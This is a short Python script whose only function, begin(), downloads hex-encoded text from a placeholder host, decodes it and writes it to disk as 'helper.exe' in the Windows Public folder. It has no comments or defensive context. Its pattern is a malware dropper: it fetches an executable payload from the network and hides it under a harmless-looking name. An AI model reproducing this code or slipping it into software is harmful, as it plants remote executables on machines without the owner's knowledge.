import binascii
import requests


def begin():
    text = requests.get("https://files.example.com/a.txt").text
    with open("C:/Users/Public/helper.exe", "wb") as out:
        out.write(binascii.unhexlify(text.encode()))
